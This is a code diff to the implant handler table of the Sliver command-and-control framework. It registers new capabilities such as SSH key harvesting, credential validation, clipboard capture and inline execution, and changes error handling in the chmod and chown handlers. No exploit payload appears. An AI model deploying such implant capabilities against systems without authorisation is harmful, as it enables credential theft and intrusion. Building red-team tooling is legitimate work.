@@ -47,6 +47,7 @@ var (
 		sliverpb.MsgTerminateReq: terminateHandler,
 		sliverpb.MsgPing:         pingHandler,
 		sliverpb.MsgLsReq:        dirListHandler,
+		sliverpb.MsgSearchReq:    searchHandler,
 		sliverpb.MsgDownloadReq:  downloadHandler,
 		sliverpb.MsgUploadReq:    uploadHandler,
 		sliverpb.MsgCdReq:        cdHandler,
@@ -64,12 +65,24 @@ var (
 		sliverpb.MsgScreenshotReq: screenshotHandler,
 
 		sliverpb.MsgNetstatReq:  netstatHandler,
+		sliverpb.MsgPresenceReq: presenceHandler,
+		sliverpb.MsgSurveyReq:   surveyHandler,
 		sliverpb.MsgSideloadReq: sideloadHandler,
 
+		sliverpb.MsgInlineExecuteReq: inlineExecuteHandler,
+		sliverpb.MsgValidateCredsReq: validateCredsHandler,
+		sliverpb.MsgClipboardReq:     clipboardHandler,
+
 		sliverpb.MsgReconfigureReq: reconfigureHandler,
+		sliverpb.MsgRedirectReq:    redirectHandler,
 		sliverpb.MsgSSHCommandReq:  runSSHCommandHandler,
+		sliverpb.MsgSSHHarvestReq:  sshHarvestHandler,
 		sliverpb.MsgProcessDumpReq: dumpHandler,
 
+		// {{if .Config.HTTPc2Enabled}}
+		sliverpb.MsgProxySetReq: proxySetHandler,
+		// {{end}}
+
 		// {{if .Config.WGc2Enabled}}
 		// Wireguard specific
 		sliverpb.MsgWGStartPortFwdReq:   wgStartPortfwdHandler,
@@ -78,6 +91,7 @@ var (
 		sliverpb.MsgWGStartSocksReq:     wgStartSocksHandler,
 		sliverpb.MsgWGStopSocksReq:      wgStopSocksHandler,
 		sliverpb.MsgWGListSocksReq:      wgListSocksServersHandler,
+		sliverpb.MsgWGRotateKeysReq:     wgRotateKeysHandler,
 		// {{end}}
 
 		// Linux Only
@@ -232,7 +246,7 @@ func memfilesRmHandler(data []byte, resp RPCResponse) {
 			memfilesRm.Response.Err = "file descriptor does not represent a symlink"
 		}
 	} else {
-		memfilesRm.Response.Err = err.Error()
+		memfilesRm.Response = sliverpb.ErrorResponse(err)
 	}
 
 	data, err = proto.Marshal(memfilesRm)
@@ -294,20 +308,20 @@ func chmodHandler(data []byte, resp RPCResponse) {
 					return nil
 				})
 				if err != nil {
-					chmod.Response.Err = err.Error()
+					chmod.Response = sliverpb.ErrorResponse(err)
 				}
 
 			} else {
 				err = os.Chmod(target, fileMode)
 				if err != nil {
-					chmod.Response.Err = err.Error()
+					chmod.Response = sliverpb.ErrorResponse(err)
 				}
 			}
 		} else {
-			chmod.Response.Err = err.Error()
+			chmod.Response = sliverpb.ErrorResponse(err)
 		}
 	} else {
-		chmod.Response.Err = err.Error()
+		chmod.Response = sliverpb.ErrorResponse(err)
 	}
 
 	data, err = proto.Marshal(chmod)
@@ -341,33 +355,33 @@ func chownHandler(data []byte, resp RPCResponse) {
 
 	chown.Response = &commonpb.Response{}
 	if err != nil {
-		chown.Response.Err = err.Error()
+		chown.Response = sliverpb.ErrorResponse(err)
 		goto finished
 	}
 
 	uid_str = chownReq.Uid
 	usr, err = user.Lookup(uid_str)
 	if err != nil {
-		chown.Response.Err = err.Error()
+		chown.Response = sliverpb.ErrorResponse(err)
 		goto finished
 	}
 
 	uid, err = strconv.ParseUint(usr.Uid, 10, 32)
 	if err != nil {
-		chown.Response.Err = err.Error()
+		chown.Response = sliverpb.ErrorResponse(err)
 		goto finished
 	}
 
 	gid_str = chownReq.Gid
 	grp, err = user.LookupGroup(gid_str)
 	if err != nil {
-		chown.Response.Err = err.Error()
+		chown.Response = sliverpb.ErrorResponse(err)
 		goto finished
 	}
 
 	gid, err = strconv.ParseUint(grp.Gid, 10, 32)
 	if err != nil {
-		chown.Response.Err = err.Error()
+		chown.Response = sliverpb.ErrorResponse(err)
 		goto finished
 	}
 
@@ -386,14 +400,14 @@ func chownHandler(data []byte, resp RPCResponse) {
 			return nil
 		})
 		if err != nil {
-			chown.Response.Err = err.Error()
+			chown.Response = sliverpb.ErrorResponse(err)
 		}
 
 	} else {
 
 		err = os.Chown(target, int(uid), int(gid))
 		if err != nil {
-			chown.Response.Err = err.Error()
+			chown.Response = sliverpb.ErrorResponse(err)
 		}
 	}
 